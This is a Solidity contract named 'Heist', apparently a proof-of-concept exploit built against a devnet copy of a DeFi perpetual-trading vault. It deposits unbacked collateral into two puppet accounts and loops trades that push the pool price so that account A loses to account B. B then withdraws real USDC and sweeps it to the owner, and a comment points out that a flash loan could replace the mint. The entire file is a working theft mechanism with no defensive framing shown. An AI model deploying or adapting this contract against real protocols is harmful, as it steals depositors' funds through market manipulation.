// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {CollateralToken} from "@homeostat/devnet/CollateralToken.sol";
import {PuppetAccount, Venue} from "@homeostat/devnet/TwoAccountManipulation.sol";

interface IDepositFor {
    function depositFor(address to, address token, uint256 amount) external;
}

/// @notice Collateral that nothing backs, turned into the vault's dollars: account A loses to account B what A cannot owe
/// anybody, and B withdraws it. Everything in one transaction, so a flash loan would do where the mint does not.
contract Heist {
    uint256 private constant ONE = 1e6;
    uint256 private constant HUGE = 1e25;
    uint256 private constant ROUND_GAS = 5_000_000;

    address private immutable OWNER;
    PuppetAccount public immutable A;
    PuppetAccount public immutable B;
    CollateralToken private immutable UNBACKED;
    Venue private _venue;

    error NotTheOwner(address caller);
    error NothingToTake();

    /// @param minted [1e18 tokens] For each of the two accounts.
    constructor(Venue memory venue, CollateralToken unbacked, uint256 minted) {
        OWNER = msg.sender;
        (_venue, UNBACKED) = (venue, unbacked);
        A = new PuppetAccount(venue);
        B = new PuppetAccount(venue);
        unbacked.mint(address(this), 2 * minted);
        unbacked.approve(address(venue.vault), 2 * minted);
        IDepositFor(address(venue.vault)).depositFor(address(A), address(unbacked), minted);
        IDepositFor(address(venue.vault)).depositFor(address(B), address(unbacked), minted);
    }

    /// @notice Lets A lose to B until B may withdraw `amount`, or the gas of the transaction is used up, and withdraws it.
    /// @param amount [1e6 USD]
    /// @param first Factor [millionths] on the square root of the price: how far up B buys. @param second How far A does then.
    function strike(uint256 amount, uint256 first, uint256 second) external {
        require(msg.sender == OWNER, NotTheOwner(msg.sender));
        while (_free() < amount && gasleft() > ROUND_GAS) {
            uint256 price = _price();
            B.trade(false, true, HUGE, uint160(price * first / ONE));
            A.trade(false, true, HUGE, uint160(price * second / ONE));
            B.trade(true, true, _held(B), 0);
            A.trade(true, true, _held(A), 0);
        }
        uint256 taken = _free();
        uint256 cash = _venue.usdc.balanceOf(address(_venue.vault));
        if (taken > amount) taken = amount;
        if (taken > cash) taken = cash;
        require(taken != 0, NothingToTake());
        B.withdraw(taken);
        B.sweep(OWNER);
    }

    /// @dev What B may withdraw now.
    function _free() private view returns (uint256) {
        return _venue.vault.getFreeCollateralByToken(address(B), address(_venue.usdc));
    }

    function _held(PuppetAccount account) private view returns (uint256) {
        return uint256(_venue.accounts.getTakerPositionSize(address(account), _venue.base));
    }

    function _price() private view returns (uint256 price) {
        (price,,,,,,) = _venue.pool.slot0();
    }
}
